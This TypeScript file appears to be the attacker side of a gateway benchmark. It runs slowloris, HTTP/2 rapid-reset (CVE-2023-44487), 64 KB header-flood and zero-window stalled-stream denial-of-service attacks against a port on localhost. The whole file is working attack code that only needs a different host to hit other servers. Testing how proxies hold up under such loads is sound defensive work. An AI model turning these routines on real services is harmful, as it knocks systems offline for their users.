import net from 'node:net';

/*
 * The attackers of `bench/gateway-attack.ts`: `KIND PORT`, until it is ended. Their rates are fixed, and more than one client of a service has
 * reason for; who has no limits beats every proxy by the bandwidth alone.
 */

const [kind, port] = [process.argv[2], Number(process.argv[3])];
const SLOW_CONNECTIONS = 1_000;
const RESETS_PER_SECOND = 5_000;
const FLOODS_PER_SECOND = 200;
const STALLED_STREAMS = 100;
const TICK_MS = 10;

const ATTACKS: Readonly<Record<string, () => void>> = {
  slowloris: slowHeads,
  'rapid-reset': rapidResets,
  'header-flood': headerFloods,
  'stalled-answers': stalledAnswers,
};
function connection(): net.Socket {
  const socket = net.connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => socket.destroy());
  return socket;
}

/** So many connections whose head gets a field more now and then, and no end; each that is refused comes again. */
function slowHeads(): void {
  const open = (): void => {
    const socket = connection();
    socket.write('GET / HTTP/1.1\r\nHost: a.example\r\n');
    socket.resume();
    const drip = setInterval(() => socket.write('x: y\r\n'), 1_000);
    socket.on('close', () => {
      clearInterval(drip);
      setTimeout(open, 100);
    });
  };
  for (let n = 0; n < SLOW_CONNECTIONS; n += 1) setTimeout(open, n);
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
/** `:method GET`, `:scheme http`, `:path /` of HPACK's table, and `:authority a.example`. */
const HEAD = Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x41, 9]), Buffer.from('a.example')]);

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const request = (stream: number): Buffer => frame(1, 0x05, stream, HEAD);
const reset = (stream: number): Buffer => frame(3, 0, stream, Buffer.from([0, 0, 0, 8]));
const settings = (...entries: readonly number[]): Buffer => frame(4, 0, 0, Buffer.from(entries));

/** Requests that are reset at once (CVE-2023-44487), on a connection as long as it lasts, then on the next. */
function rapidResets(): void {
  let socket: net.Socket | undefined;
  let stream = 1;
  setInterval(() => {
    if (socket === undefined || socket.destroyed) {
      socket = connection();
      socket.resume();
      socket.write(Buffer.concat([PREFACE, settings()]));
      stream = 1;
    }
    const frames: Buffer[] = [];
    for (let n = 0; n < (RESETS_PER_SECOND * TICK_MS) / 1_000; n += 1) {
      frames.push(request(stream), reset(stream));
      stream += 2;
    }
    socket.write(Buffer.concat(frames));
  }, TICK_MS);
}

/** Heads of 64 KB. */
function headerFloods(): void {
  const head = `GET / HTTP/1.1\r\nHost: a.example\r\n${`x-flood: ${'f'.repeat(1_000)}\r\n`.repeat(64)}\r\n`;
  setInterval(() => {
    for (let n = 0; n < (FLOODS_PER_SECOND * TICK_MS) / 1_000; n += 1) {
      const socket = connection();
      socket.end(head);
      socket.resume();
    }
  }, TICK_MS);
}

/** Requests whose answers may not be sent: no window is granted. */
function stalledAnswers(): void {
  const open = (): void => {
    const socket = connection();
    socket.resume();
    // SETTINGS_INITIAL_WINDOW_SIZE 0
    const frames = [PREFACE, settings(0, 4, 0, 0, 0, 0)];
    for (let n = 0; n < STALLED_STREAMS; n += 1) frames.push(request(2 * n + 1));
    socket.write(Buffer.concat(frames));
    socket.on('close', () => setTimeout(open, 100));
  };
  for (let n = 0; n < 10; n += 1) open();
}

const attack = ATTACKS[kind ?? ''];
if (attack === undefined || !(port > 0))
  throw new Error(`KIND PORT, with ${Object.keys(ATTACKS).join(', ')}`);
attack();
process.stdout.write('ready\n');
